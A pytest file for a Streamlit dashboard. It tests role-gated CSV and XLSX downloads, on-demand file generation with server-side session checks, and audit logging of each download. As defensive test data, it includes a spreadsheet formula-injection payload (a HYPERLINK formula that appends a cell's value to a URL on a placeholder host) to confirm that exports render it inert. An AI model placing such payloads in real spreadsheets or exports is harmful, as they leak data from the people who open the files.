"""Issue 13, findings 4 and 7: table downloads from the analyst role up only (viewers see the
tables, not the files), always through the formula-safe exporter, each one audited.

Issue 11: a table's files are made only when asked for (``st.download_button`` with a callable):
the tests ask as Streamlit's deferred-file handler does (``MediaFileManager.execute_deferred``
with the id the run sent), and the session's right is checked then, server side."""

from __future__ import annotations

import csv
import io
import time

import pytest
from sqlalchemy import select
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.runtime.media_file_storage import MediaFileStorageError
from streamlit.testing.v1 import AppTest, app_test
from streamlit.util import calc_hash

from dashboard import server_guard
from queries.access import accounts, sessions
from queries.access.accounts import create_user
from queries.access.audit import record
from queries.db import engine_for, make_engine
from queries.schema.access import audit_log
from tests.apptest_helpers import ROOT, TIMEOUT, use_database, view
from tests.test_app_upload import RecordingStorage
from tests.test_app_upload import served as served  # the recording media store

ROLES = ("viewer", "analyst", "admin")
FORMULA = '=HYPERLINK("http://x.invalid/?"&B3,"open")'
# Download buttons each page offers an analyst (two files per table).
PAGES = {"feedback": 4, "ngo": 2}


@pytest.fixture
def app_db(demo_url, monkeypatch) -> str:
    engine = make_engine(demo_url)
    try:
        for role in ROLES:
            create_user(engine, f"{role}1", f"{role}-password-1", role=role)
    finally:
        engine.dispose()
    use_database(monkeypatch, demo_url, require_login=True)
    return demo_url


class RecordingManager(MediaFileManager):
    """AppTest's media file manager, remembered so a test can ask for a deferred file."""

    latest: MediaFileManager | None = None

    def __init__(self, storage) -> None:
        super().__init__(storage)
        RecordingManager.latest = self


@pytest.fixture(autouse=True)
def managed(monkeypatch):
    monkeypatch.setattr(app_test, "MediaFileManager", RecordingManager)
    server_guard.forget_all()
    yield
    server_guard.forget_all()


def fetch(at: AppTest, key: str) -> bytes:
    """What the browser gets on clicking the button ``key``: the deferred file made now."""
    proto = at.download_button(key=key).proto
    assert proto.deferred_file_id and not proto.url  # nothing made before the click
    url = RecordingManager.latest.execute_deferred(proto.deferred_file_id)
    return bytes(RecordingStorage.latest.get_file(url.rsplit("/", 1)[1]).content)


def downloads(url: str) -> list[tuple[str, str]]:
    engine = make_engine(url)
    try:
        with engine.connect() as conn:
            rows = conn.execute(select(audit_log.c.actor, audit_log.c.target)
                                .where(audit_log.c.action == "download")).all()  # fmt: skip
    finally:
        engine.dispose()
    return [tuple(row) for row in rows]


def as_user(name: str, role: str):
    return view(name, "en", {"username": f"{role}1", "role": role})


@pytest.mark.parametrize("name", [*PAGES, "regions"])
def test_viewers_get_no_download_buttons(app_db, name):
    at = as_user(name, "viewer")
    assert not at.exception, at.exception
    assert len(at.dataframe) > 0  # the tables are there
    assert len(at.download_button) == 0


@pytest.mark.parametrize("name", list(PAGES))
def test_analysts_get_them(app_db, name):
    at = as_user(name, "analyst")
    assert not at.exception, at.exception
    assert len(at.download_button) == PAGES[name]


def test_a_download_is_formula_safe_and_audited(app_db):
    engine = make_engine(app_db)
    try:
        record(engine, actor=FORMULA, action="sign_in_failed", target=FORMULA)
    finally:
        engine.dispose()
    at = as_user("audit", "admin")
    assert not at.exception, at.exception
    csv_keys = [b.key for b in at.download_button if b.key and b.key.endswith("_csv")]
    assert csv_keys
    assert downloads(app_db) == []  # drawing the page makes no file and logs nothing
    text = fetch(at, csv_keys[0]).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells  # the cell is there, as inert text
    assert FORMULA not in cells
    assert downloads(app_db) == [("admin1", "senim-audit.csv")]  # one entry per file made


def test_each_file_is_made_and_audited_per_download(app_db):
    at = as_user("regions", "analyst")
    assert not at.exception, at.exception
    keys = [b.key for b in at.download_button]
    assert {"regions_csv", "regions_xlsx"} <= set(keys)
    workbook = fetch(at, "regions_xlsx")
    assert workbook[:2] == b"PK"  # a zip: the xlsx
    fetch(at, "regions_csv")
    fetch(at, "regions_csv")
    made = downloads(app_db)
    assert sorted(made) == [("analyst1", "senim-regions.csv")] * 2 + [
        ("analyst1", "senim-regions.xlsx")
    ]


def test_a_session_no_longer_allowed_gets_nothing(app_db):
    """Signed out (or expired, or demoted) after the page was drawn: the id it was sent makes
    no file and logs nothing."""
    at = as_user("regions", "analyst")
    assert not at.exception, at.exception
    file_id = at.download_button(key="regions_csv").proto.deferred_file_id
    server_guard.forget_all()  # what signing out or the idle end does to the session's entry
    with pytest.raises(MediaFileStorageError):
        RecordingManager.latest.execute_deferred(file_id)
    assert downloads(app_db) == []


@pytest.mark.parametrize("change", ["demoted", "revoked"])
def test_through_the_entry_point_the_next_run_ends_the_right(demo_url, monkeypatch, change):
    """As served (dashboard/app.py, a real session row): the role lowered or the session
    revoked elsewhere; the next run takes the buttons away and the id sent before makes
    nothing."""
    use_database(monkeypatch, demo_url, require_login=True)
    engine = engine_for(demo_url)
    accounts.create_user(engine, "anna", None, role="analyst")
    accounts.create_user(engine, "boss", None, role="admin")
    sid, _code = sessions.open_session(engine, username="anna", method="password")
    at = AppTest.from_file(str(ROOT / "dashboard" / "app.py"), default_timeout=TIMEOUT)
    at.session_state["lang"] = "en"
    at.session_state["senim_user"] = {"username": "anna", "role": "analyst", "sid": sid,
                                      "expires_at": time.time() + 3600}  # fmt: skip
    at._page_hash = calc_hash("regions")  # a callable page: st.Page hashes its url_path
    at.run()
    assert not at.exception, at.exception
    assert fetch(at, "regions_csv")  # allowed now
    file_id = at.download_button(key="regions_csv").proto.deferred_file_id
    if change == "demoted":
        accounts.set_role(engine, "anna", "viewer", actor="boss")
    else:
        sessions.revoke(engine, session_id=sid)  # signed out in another tab
    at.run()
    assert not at.exception, at.exception
    assert len(at.download_button) == 0
    with pytest.raises(MediaFileStorageError):
        RecordingManager.latest.execute_deferred(file_id)
    assert downloads(demo_url) == [("anna", "senim-regions.csv")]  # only the one made
